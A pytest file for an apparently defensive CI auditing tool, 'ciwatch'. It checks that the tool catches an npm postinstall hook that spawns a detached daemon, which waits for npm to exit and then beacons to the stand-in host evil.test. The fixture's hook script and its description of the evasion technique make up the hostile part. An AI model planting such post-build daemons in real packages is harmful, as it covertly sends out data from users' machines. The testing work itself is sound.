"""Class 5 of the evasion issue: after the build's root exits, nothing goes dark.

An npm ``postinstall`` starts a daemon (a C program: double fork, setsid, stdio to /dev/null)
that waits until npm has exited, then connects to evil.test by address, sends a request and
writes a file. Bare, it works. Under ``ciwatch run`` (``--leftovers leave``, the default) the
daemon stays traced: the record's second segment (after the ``end`` line) holds its connect
and its write, the final ``verdict.json`` judges them, and ``ciwatch check`` agrees. In block
mode the verdict is already ``fail`` (exit 3) when the build exits, because a hook left a
process running, and the daemon's later connect is refused: nothing reaches evil.test.
"""

from __future__ import annotations

import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from ciwatch.record import read_record
from ciwatch.record.events import FileWrite, NetConnect, Refusal
from ciwatch.record.reader import Record
from ciwatch.record.vocabulary import ConnectVia
from tests.support.attacks import (
    DEFAULT_POLICY,
    POLICY_FAILED,
    Watched,
    assert_found,
    assert_replay_agrees,
    findings_of,
    npm_install,
    npm_project,
    watch,
)
from tests.support.cprograms import program
from tests.support.internet import EVIL, TestInternet

pytestmark = [pytest.mark.npm, pytest.mark.root]

PACKAGE = "after-party"
VERSION = "1.0.0"
HOOK = "postinstall"


@dataclass
class Stage:
    root: Path
    internet: TestInternet
    evil_ip: str

    @property
    def home(self) -> Path:
        return self.root / "home"

    @property
    def project(self) -> Path:
        return self.root / "project"

    @property
    def loot(self) -> Path:
        """The file the daemon writes once the build is over."""
        return self.root / "after-build.txt"


@pytest.fixture
def stage(internet: TestInternet, tmp_path: Path) -> Stage:
    stage = Stage(tmp_path, internet, internet.address_of(EVIL).ipv4)
    stage.home.mkdir()
    npm_project(stage.project)
    internet.serve(EVIL, "/after-build", "beacon received\n", content_type="text/plain")
    # $PPID of npm's `sh -c` is npm itself: the daemon waits for the package manager to end.
    script = f"{program('leftovers_daemon')} $PPID {stage.evil_ip} 80 {EVIL} {stage.loot}"
    internet.publish_npm(
        PACKAGE,
        VERSION,
        package_json_extra={"main": "index.js", "scripts": {HOOK: script}},
        files={"index.js": "module.exports = {};\n"},
    )
    return stage


def _wait_for(check: object, what: str, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while not callable(check) or not check():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.1)


def _followed(watched: Watched) -> Record:
    """The record once its second segment is closed (the daemon has exited)."""
    _wait_for(lambda: read_record(watched.out).after_build_end is not None, "the after-build-end line")
    return read_record(watched.out)


def _second_segment(record: Record) -> list[tuple[int, object]]:
    """(seq, event) of what was recorded after the end line."""
    assert record.after_build is not None and record.after_build_seq > 0
    return [(item.seq, item.event) for item in record.events if item.seq > record.after_build_seq]


def test_bare_the_daemon_acts_after_the_build(stage: Stage) -> None:
    env = stage.internet.client_env(stage.home)
    done = subprocess.run(
        stage.internet.wrap_with_test_resolver(npm_install(f"{PACKAGE}@{VERSION}")),
        cwd=stage.project,
        env=env,
        capture_output=True,
        text=True,
        timeout=240,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    _wait_for(stage.loot.exists, "the daemon's file")
    _wait_for(lambda: stage.loot.read_text().endswith("\n"), "the daemon's file to be complete")
    assert stage.loot.read_text().startswith("sent; reply HTTP/1.")
    assert [r.path for r in stage.internet.requests_to(EVIL)] == ["/after-build"]


def test_audit_records_and_judges_what_the_daemon_did_after_the_build(stage: Stage) -> None:
    watched = watch(stage.internet, stage.home, stage.project, stage.root / "out", npm_install(f"{PACKAGE}@{VERSION}"))
    assert watched.code == 0, watched.stderr[-3000:]
    assert "ciwatch follows them" in watched.stderr
    record = _followed(watched)
    assert record.after_build_end is not None and record.after_build_end.clean
    later = _second_segment(record)
    connects = [e for _, e in later if isinstance(e, NetConnect) and e.address == stage.evil_ip]
    assert connects and connects[0].via is ConnectVia.DIRECT
    assert any(isinstance(e, FileWrite) and e.path == str(stage.loot) for _, e in later)
    assert stage.loot.read_text().startswith("sent;")
    # The final verdict judges the second segment: the connect is the hook's unfamiliar egress.
    verdict = watched.verdict
    assert verdict["final"] is True and verdict["verdict"] == "fail"
    assert record.after_build_end.verdict == "fail"
    leftovers = assert_found(watched, "leftover-process", f"{PACKAGE}@{VERSION}", HOOK)
    assert {f["severity"] for f in leftovers} == {"high"}
    egress = assert_found(watched, "unfamiliar-egress", f"{PACKAGE}@{VERSION}", HOOK)
    assert any(f["host"] == stage.evil_ip for f in egress)
    assert_replay_agrees(watched)


@pytest.mark.parametrize("net", [None, "sandbox"], ids=["redirect", "sandbox"])
def test_block_fails_at_exit_and_refuses_the_daemon_later(stage: Stage, net: str | None) -> None:
    watched = watch(
        stage.internet,
        stage.home,
        stage.project,
        stage.root / "out",
        npm_install(f"{PACKAGE}@{VERSION}"),
        policy=DEFAULT_POLICY,
        mode="block",
        net=net,
    )
    # Failed at the build's exit already: a hook left a process running.
    assert watched.code == POLICY_FAILED, watched.stderr[-3000:]
    assert "leftover-process" in watched.stderr
    record = _followed(watched)
    later = _second_segment(record)
    refused = [e for _, e in later if isinstance(e, NetConnect) and e.address == stage.evil_ip]
    assert refused and all(e.via is ConnectVia.REFUSED for e in refused)
    assert any(isinstance(e, Refusal) and e.target == f"{stage.evil_ip}:80" for _, e in later)
    assert any(isinstance(e, FileWrite) and e.path == str(stage.loot) for _, e in later)
    assert stage.loot.read_text() == "connect failed: Operation not permitted\n"
    assert stage.internet.requests_to(EVIL) == []
    verdict = watched.verdict
    assert verdict["final"] is True and verdict["verdict"] == "fail" and verdict["refusals"] >= 1
    assert_found(watched, "leftover-process", f"{PACKAGE}@{VERSION}", HOOK)
    refusal_findings = [f for f in findings_of(watched, "unfamiliar-egress") if f["host"] == stage.evil_ip]
    assert refusal_findings and refusal_findings[0]["hook"] == HOOK
    assert refusal_findings[0]["package"] == f"{PACKAGE}@{VERSION}"
    assert_replay_agrees(watched)


def test_kill_and_wait_keep_everything_in_the_build_segment(stage: Stage) -> None:
    killed = watch(
        stage.internet,
        stage.home,
        stage.project,
        stage.root / "out-kill",
        npm_install(f"{PACKAGE}@{VERSION}"),
        options=("--leftovers", "kill"),
    )
    assert killed.code == 0, killed.stderr[-3000:]
    record = read_record(killed.out)
    assert record.after_build is None and record.end is not None
    assert killed.verdict["final"] is True
    assert any(f["message"].endswith("(killed)") for f in findings_of(killed, "leftover-process"))
    assert stage.internet.requests_to(EVIL) == []
    assert not stage.loot.exists()
